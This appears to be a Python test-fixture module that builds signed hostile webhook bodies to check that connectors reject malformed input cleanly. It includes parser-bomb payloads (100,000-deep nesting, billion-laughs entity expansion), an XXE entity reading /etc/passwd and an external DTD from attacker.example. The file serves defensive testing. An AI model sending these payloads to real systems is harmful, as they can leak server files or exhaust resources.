"""Hostile payloads: correctly signed bodies every connector must refuse before anything is stored.

Each case is a recorded fixture changed through the connector's harness (which knows where its
vendor keeps ids and times) and signed for the harness's connection. verify() then read() must
raise InvalidInput (or, for a foreign sender, SignatureVerificationError): never a
RecursionError, OverflowError or ValueError, which would be a 500 the vendor retries forever.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

from connectors.testing.harness import Harness

Edit = Callable[[Harness, Any], Any]

DEEP = {
    ".json": b'"deep":' + b"[" * 100_000 + b"]" * 100_000,
    ".xml": b"<Deep>" * 30_000 + b"x" + b"</Deep>" * 30_000,
}
BENIGN = {".json": b'"note":"fine"', ".xml": b"<Note>fine</Note>"}
JSON_MEMBERS = {
    "nested_100000_arrays": DEEP[".json"],
    "nested_500_objects": b'"deep":' + b'{"a":' * 500 + b"1" + b"}" * 500,
    "integer_4400_digits": b'"amount":' + b"9" * 4400,
    "negative_integer_4400_digits": b'"amount":-' + b"9" * 4400,
    "integer_2_pow_63": b'"amount":9223372036854775808',
    "float_1e400": b'"amount":1e400',
    "nan": b'"amount":NaN',
    "infinity": b'"amount":Infinity',
    "negative_infinity": b'"amount":-Infinity',
    "nul_in_string": b'"note":"a\\u0000b"',
    "nul_in_key": b'"a\\u0000b":"note"',
    "lone_surrogate": b'"note":"\\ud800"',
}
LAUGHS = b'<!DOCTYPE lolz [<!ENTITY lol0 "lol">%s]>' % b"".join(
    b'<!ENTITY lol%d "%s">' % (n, b"&lol%d;" % (n - 1) * 10) for n in range(1, 10)
)  # &lol9; would expand to 10**9 "lol"s
XML_CASES = {  # case → (DOCTYPE to add, field to add to the record)
    "nested_30000_fields": (b"", DEEP[".xml"]),
    "nul_character_reference": (b"", b"<Note>a&#0;b</Note>"),
    "billion_laughs": (LAUGHS, b"<Note>&lol9;</Note>"),
    "external_entity": (b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b"<Note>&xxe;</Note>"),
    "external_dtd": (b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">', b""),
}


def _now() -> datetime:
    return datetime.now(UTC)


RECORD_CASES: dict[str, Edit] = {
    "event_id_301_chars": lambda h, doc: h.with_event_id(doc, "e" * 301),
    "event_id_with_control_character": lambda h, doc: h.with_event_id(doc, "evt\n1"),
    "customer_id_256_chars": lambda h, doc: h.with_customer_id(doc, "c" * 256),
    "customer_id_with_control_character": lambda h, doc: h.with_customer_id(doc, "cus\t1"),
    "time_one_hour_ahead": lambda h, doc: h.with_time(doc, _now() + timedelta(hours=1)),
    "time_in_year_9999": lambda h, doc: h.with_time(doc, datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC)),
    "time_before_1970": lambda h, doc: h.with_time(doc, datetime(1969, 12, 31, 23, 59, tzinfo=UTC)),
}
# Valid RFC 3339 whose UTC value no datetime holds: refused, or read as no time at all.
EDGE_TIMES = {
    "year_1_at_plus_14_00": datetime(1, 1, 1, tzinfo=timezone(timedelta(hours=14))),
    "year_9999_at_minus_14_00": datetime(9999, 12, 31, 23, 59, tzinfo=timezone(-timedelta(hours=14))),
}
HARMLESS_CASES: dict[str, Edit] = {  # the controls: the same edits, within limits, are accepted
    "unchanged": lambda h, doc: doc,
    "ordinary_ids": lambda h, doc: h.with_customer_id(h.with_event_id(doc, "evt_ok_1"), "cus_ok_1"),
    "time_a_minute_ago": lambda h, doc: h.with_time(doc, _now() - timedelta(minutes=1)),
    "time_within_clock_skew": lambda h, doc: h.with_time(doc, _now() + timedelta(minutes=1)),
    "benign_field": lambda h, doc: h.with_raw(doc, BENIGN[h.suffix]),
}


def with_doctype(body: bytes, doctype: bytes) -> bytes:
    declaration, sep, rest = body.partition(b"?>")
    return declaration + sep + b"\n" + doctype + rest if sep else doctype + body
